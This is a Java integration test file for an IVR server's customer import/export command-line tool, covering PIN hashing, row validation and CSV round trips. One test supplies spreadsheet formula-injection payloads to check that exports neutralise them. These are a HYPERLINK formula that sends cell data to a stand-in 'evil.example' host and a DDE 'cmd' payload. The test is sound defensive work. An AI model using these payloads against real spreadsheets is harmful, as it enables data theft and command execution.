package dev.ivr.server.cli;

import dev.ivr.server.crm.pin.PinPepper;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** {@code import-customers} and {@code export-customers} as an admin runs them, on the default H2 database. */
@Tag("integration")
class CustomerCliIT {
    static final Path SAMPLE = Path.of("..", "config", "sample-customers.csv");
    @TempDir
    Path dir;
    Path config;
    @RegisterExtension
    final CliRunner cli = new CliRunner();

    @BeforeEach
    void setUp() throws Exception {
        config = dir.resolve("ivr.yaml");
        Files.writeString(config, """
                node:
                  data-dir: %s
                crm:
                  pin-hash: {memory: 1024, iterations: 1, parallelism: 1}
                """.formatted(dir.resolve("data")));
    }

    @Test
    void theSampleImportsExportsAndImportsAgain() throws Exception {
        assertThat(cli.run("import-customers", "-c", config.toString(), SAMPLE.toString())).as(cli.err()).isZero();
        assertThat(cli.out()).contains("imported 12 customer(s)").contains("12 new, 0 updated");
        assertThat(cli.out() + cli.err()).doesNotContain("1234,").doesNotContain("argon2");

        Path export = dir.resolve("export.csv");
        assertThat(cli.run("export-customers", "-c", config.toString(), "--with-pin-hashes", export.toString()))
                .as(cli.err()).isZero();
        assertThat(cli.err()).contains("exported 12 customer(s) to " + export);
        String csv = Files.readString(export);
        assertThat(csv).startsWith("id,first_name,last_name,language,tier,phones,accounts,statuses,pin_hashes,"
                + "attr.balance_band,attr.open_ticket,attr.segment\n");
        // cells starting with + (and = - @) are written behind an apostrophe: spreadsheets take them as text
        // PINs are hashed with the pepper generated into the data directory (0600), which the hash names
        Path pepper = dir.resolve("data/pin-pepper");
        assertThat(Files.getPosixFilePermissions(pepper)).isEqualTo(PosixFilePermissions.fromString("rw-------"));
        assertThat(csv).contains("C1001,Anna,Kovács,hu,gold,'+3612345678;+36301234567,10001,active,\"$pepper$k="
                + PinPepper.of(Files.readString(pepper).strip().getBytes(StandardCharsets.US_ASCII)).id() + "$argon2id$");
        assertThat(csv).contains("C1010,Péter,Kiss,hu,standard,'+3615550110,10011,blocked,");
        assertThat(csv.lines()).hasSize(13);

        assertThat(cli.run("import-customers", "-c", config.toString(), export.toString())).as(cli.err()).isZero();
        assertThat(cli.out()).contains("0 new, 12 updated");
        assertThat(cli.run("export-customers", "-c", config.toString(), "--with-pin-hashes", dir.resolve("again.csv").toString()))
                .isZero();
        assertThat(Files.readString(dir.resolve("again.csv"))).as("the round trip changes nothing").isEqualTo(csv);
    }

    @Test
    void formulasInExportedCellsAreNeutralisedAndImportedBackAsTheyWere() throws Exception {
        Path in = dir.resolve("formulas.csv");
        Files.writeString(in, """
                id,first_name,last_name,tier,attr.note
                C1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@SUM(1+1),-1,"+cmd|' /C calc'!A0"
                """);
        assertThat(cli.run("import-customers", "-c", config.toString(), in.toString())).as(cli.out() + " " + cli.err()).isZero();
        Path export = dir.resolve("export.csv");
        assertThat(cli.run("export-customers", "-c", config.toString(), export.toString())).isZero();
        List<String> cells;
        try (CSVParser p = CSVFormat.DEFAULT.parse(Files.newBufferedReader(export))) {
            cells = p.getRecords().get(1).toList();
        }
        assertThat(cells).hasSize(9).contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(1+1)", "'-1",
                "'+cmd|' /C calc'!A0");
        assertThat(cells).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
                .doesNotStartWith("-").doesNotStartWith("@"));
        // imported again, every value is what it was
        assertThat(cli.run("import-customers", "-c", config.toString(), export.toString())).isZero();
        assertThat(cli.run("export-customers", "-c", config.toString(), dir.resolve("again.csv").toString())).isZero();
        assertThat(Files.readString(dir.resolve("again.csv"))).isEqualTo(Files.readString(export));
        assertThat(Files.readString(export)).contains("'=HYPERLINK(").contains("'@SUM(1+1)").contains("'-1")
                .contains("'+cmd|");
    }

    @Test
    void rejectedRowsAreListedWithLineNumbersAndNothingIsImported() throws Exception {
        Path bad = dir.resolve("bad.csv");
        Files.writeString(bad, """
                id,first_name,phones,accounts,pins
                C1,Anna,+36 1 234 5678,10001,1234
                C2,Bela,call me,10002,12
                C3,Cili,+36 1 234 5679,10003,4321
                """);
        assertThat(cli.run("import-customers", "-c", config.toString(), bad.toString())).isEqualTo(1);
        assertThat(cli.out()).contains(bad + ": line 3: phones: entry 1 'call me' is not a phone number")
                .contains("pins: entry 1 must be 4 to 16 digits")
                .contains("nothing imported: 1 row(s) rejected (fix them, or use --skip-invalid to import the 2 valid row(s))");
        assertThat(cli.out()).doesNotContain(",12");

        assertThat(cli.run("import-customers", "-c", config.toString(), "--dry-run", SAMPLE.toString())).isZero();
        assertThat(cli.out()).contains("dry run: 12 record(s) read, 12 valid (12 new, 0 updated), 0 rejected");
        assertThat(cli.run("export-customers", "-c", config.toString(), dir.resolve("empty.csv").toString())).isZero();
        assertThat(Files.readString(dir.resolve("empty.csv")).lines()).as("nothing was imported").hasSize(1);

        // columns shifted (pins and statuses swapped): the PINs are not in the messages
        Path shifted = dir.resolve("shifted.csv");
        Files.writeString(shifted, """
                id,accounts,pins,statuses
                C1,10001,active,2468
                C2,10002;10003,active;active,1357;9753
                """);
        assertThat(cli.run("import-customers", "-c", config.toString(), shifted.toString())).isEqualTo(1);
        assertThat(cli.out()).contains("line 2: ").doesNotContain("2468").doesNotContain("1357").doesNotContain("9753");
        Path headless = dir.resolve("headless.csv");
        Files.writeString(headless, "C1,Anna,10001,2468\n");
        assertThat(cli.run("import-customers", "-c", config.toString(), headless.toString())).isEqualTo(1);
        assertThat(cli.out() + cli.err()).contains("is the header row missing?").doesNotContain("2468");

        assertThat(cli.run("import-customers", "-c", config.toString(), "--skip-invalid", bad.toString())).isZero();
        assertThat(cli.out()).contains("imported 2 customer(s)").contains("1 row(s) rejected and skipped");
    }

    @Test
    void aLargeFileShowsProgress() throws Exception {
        Path big = dir.resolve("big.csv");
        StringBuilder sb = new StringBuilder("id,first_name,phones\n");
        for (int i = 0; i < 2500; i++) {
            sb.append("B").append(i).append(",Name ").append(i).append(",+36 1 600 ").append(String.format("%04d", i)).append('\n');
        }
        Files.writeString(big, sb);
        PrintStream stderr = System.err;
        ByteArrayOutputStream captured = new ByteArrayOutputStream();
        System.setErr(new PrintStream(captured, true, StandardCharsets.UTF_8));
        try {
            assertThat(cli.run("import-customers", "-c", config.toString(), big.toString())).as(cli.err()).isZero();
        } finally {
            System.setErr(stderr);
        }
        assertThat(cli.out()).contains("imported 2500 customer(s)");
        assertThat(captured.toString(StandardCharsets.UTF_8)).contains("Importing").contains("100%").contains("2500/2500");
    }

    @Test
    void badUsageIsExplained() {
        assertThat(cli.run("import-customers", "-c", config.toString(), dir.resolve("missing.csv").toString())).isEqualTo(2);
        assertThat(cli.err()).contains("missing.csv: no such file");
        assertThat(cli.run("import-customers")).isEqualTo(2);
        assertThat(cli.err()).contains("Missing required parameter: 'FILE.csv'");
    }
}
